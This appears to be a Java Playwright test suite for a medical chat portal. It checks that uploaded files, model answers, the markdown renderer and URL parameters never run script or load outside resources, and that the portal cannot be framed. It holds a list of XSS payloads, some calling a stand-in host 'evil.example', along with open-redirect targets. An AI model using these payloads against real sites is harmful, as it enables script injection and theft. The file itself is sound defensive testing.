package dev.medmentor.app.portal;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import dev.medmentor.app.portal.PortalBrowser.Screen;
import dev.medmentor.app.portal.PortalServer.Person;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** What would run, or load something from elsewhere, if it were not taken as text. */
@Tag("browser")
class HostileContentTest {
    private static final String EVIL = "https://evil.example";
    /** Each would set {@code ran}, open a dialog, or ask {@link #EVIL} for something. */
    private static final List<String> PAYLOADS = List.of(
            "<script>globalThis.ran = 1; fetch('" + EVIL + "')</script>",
            "<img src=x onerror=\"globalThis.ran = 2\">",
            "<img src=" + EVIL + "/pixel.png>",
            "<svg onload=alert(3)><animate onbegin=alert(3) attributeName=x dur=1s>",
            "<iframe srcdoc=\"<script>parent.ran = 4</script>\"></iframe>",
            "<a href=\"javascript:ran=5\">click</a> [click](javascript:ran=5)",
            "![x](" + EVIL + "/inline.png) ![y][evil]\n\n[evil]: " + EVIL + "/reference.png",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(6)&gt;\">",
            "$\\href{javascript:alert(7)}{x}$ $\\includegraphics{" + EVIL + "/a.png}$ $\\htmlClass{a}{b}$ $\\url{"
                    + EVIL + "}$",
            "$$\\unicode{<img src=x onerror=alert(8)>}$$ $\\frac{1}{",
            "<style>@import url(" + EVIL + "/a.css); * { background: url(" + EVIL + "/b.png) }</style>",
            "<link rel=stylesheet href=" + EVIL + "/c.css><base href=" + EVIL + ">",
            "<form action=" + EVIL + "><input autofocus onfocus=alert(9)></form>",
            "<details open ontoggle=alert(10)><video><source onerror=alert(11)></video>",
            "\"><script src=" + EVIL + "/d.js></script><x y=\"",
            "<div style=\"background:url(" + EVIL + "/e.png)\" onpointerover=alert(12)>over</div>",
            "{{constructor.constructor('ran=13')()}} ${ran=13} <%= ran=13 %>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(14)>\">",
            "<object data=" + EVIL + "/f.swf></object><embed src=" + EVIL + "/g.swf>");

    private static PortalServer server;
    private static Person ana;
    private PortalBrowser browser;

    @BeforeAll
    static void start() {
        Chromium.browser();
        server = PortalServer.start();
        ana = server.owner("Ana <b onclick=alert(1)>Silva");
    }

    @AfterAll
    static void stop() {
        if (server != null) {
            server.close();
        }
    }

    @AfterEach
    void close() {
        browser.close();
    }

    private static void requireNothingRan(Page page) {
        assertThat(page.evaluate("() => globalThis.ran ?? null")).isNull();
        assertThat(
                        (Boolean)
                                page.evaluate(
                                        "() => [...document.querySelectorAll('main img, main script, main iframe, main object, main form"
                                                + " [autofocus], main style, main svg [onload], main [onclick], main [onerror]')].length > 0"))
                .isFalse();
    }

    @Test
    @Tag("case-32")
    @Tag("case-33")
    @Tag("case-C5")
    void whatModelsAndDocumentsSayShouldNeitherRunNorLoadAnything() {
        String all = String.join("\n\n", PAYLOADS);
        server.upload(
                ana,
                "\"><img src=x onerror=alert(20)> <script>ran=20<%2Fscript>.txt",
                ("<img src=x onerror=alert(21)>\n\nZebra doses are 5 mg.\n\n" + all).getBytes(StandardCharsets.UTF_8));
        browser = new PortalBrowser(server);
        Page page = browser.open(Screen.DESKTOP, ana);
        for (List<String> some : List.of(PAYLOADS.subList(0, 10), PAYLOADS.subList(10, PAYLOADS.size()))) {
            server.model.answering(request -> "Zebra doses are 5 mg. [1]\n\n" + String.join("\n\n", some));
            page.navigate("/chat");
            page.locator(".composer textarea").fill("What are zebra doses? " + String.join(" ", some));
            page.keyboard().press("Enter");
            page.locator(".answer[data-state]").waitFor();
            requireNothingRan(page);
        }
        server.model.answering(request -> "Zebra doses are 5 mg. [1]");
        page.navigate("/chat");
        page.locator(".composer textarea").fill("What are zebra doses?");
        page.keyboard().press("Enter");
        page.locator(".answer[data-state=complete] .source").first().click();
        assertThat(page.locator(".pagetext mark")).containsText("Zebra doses are 5 mg");
        assertThat(page.locator(".pagetext")).containsText("<script>");
        requireNothingRan(page);
        page.locator(".answer .button[title='Why this answer']").click();
        page.locator("dialog[open] .lines").waitFor();
        requireNothingRan(page);
    }

    @Test
    @Tag("case-32")
    @Tag("case-C5")
    void whatTheModelIsMadeToSayShouldBeCleanedInTheBrowserToo() {
        browser = new PortalBrowser(server);
        Page page = browser.open(Screen.DESKTOP, ana);
        // Without the server's cleaning before it: the page stands alone.
        Object left = page.evaluate("""
                async (payloads) => {
                  const build = document.querySelector('script[type=module]').src.replace('main.js', '');
                  const { nodes, pieces } = await import(`${build}chat/markdown.js`);
                  const box = document.createElement('div');
                  document.querySelector('main').append(box);
                  for (const payload of payloads) {
                    for (const piece of pieces(payload)) {
                      const element = document.createElement('div');
                      element.append(nodes(piece, (marker) => document.createTextNode(marker)));
                      box.append(element);
                    }
                  }
                  const bad = box.querySelectorAll(
                    'a, img, script, iframe, style, link, base, form, input, object, embed, video, svg, details, mglyph, [href], [src], [style], [class*=html]');
                  const on = [...box.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on')));
                  return [...bad, ...on].map((e) => e.outerHTML);
                }
                """, PAYLOADS);
        // The box for tables is the page's own.
        assertThat((List<?>) left).isEmpty();
        requireNothingRan(page);
    }

    @Test
    @Tag("case-32")
    void addressesShouldNotRunAnything() {
        browser = new PortalBrowser(server);
        Page guest = browser.open(Screen.DESKTOP);
        Page member = browser.open(Screen.DESKTOP, ana);
        for (int i = 0; i < PAYLOADS.size(); i += 5) {
            String payload = String.join(" ", PAYLOADS.subList(i, Math.min(i + 5, PAYLOADS.size())));
            String coded = URLEncoder.encode(payload, StandardCharsets.UTF_8).replace("+", "%20");
            guest.navigate("/login?returnTo=" + coded + "&x=" + coded + "#provider=" + coded);
            guest.locator("h1").waitFor();
            requireNothingRan(guest);
            member.navigate("/account?tab=" + coded + "#" + coded);
            member.locator("h1").waitFor();
            requireNothingRan(member);
        }
        for (String target :
                List.of("javascript:ran=1", "//evil.example/x", "/\\evil.example", EVIL, "/api/v1/auth/me")) {
            String coded = URLEncoder.encode(target, StandardCharsets.UTF_8);
            member.navigate("/login?returnTo=" + coded);
            member.waitForURL("**/chat");
            requireNothingRan(member);
        }
    }

    @Test
    @Tag("case-44")
    void otherPagesShouldNotFrameThePortal() {
        browser = new PortalBrowser(server);
        Page page = browser.open(Screen.DESKTOP);
        page.route(
                "**/frames.html",
                route -> route.fulfill(new com.microsoft.playwright.Route.FulfillOptions()
                        .setContentType("text/html")
                        .setBody("<iframe src=\"" + server.url().replace("127.0.0.1", "localhost")
                                + "/login\"></iframe>")));
        page.navigate("/frames.html");
        assertThat(page.frameLocator("iframe").locator("form")).hasCount(0);
        assertThat(browser.complaints())
                .anyMatch(complaint -> complaint.contains("frame-ancestors") || complaint.contains("localhost"));
        browser.forget();
    }
}
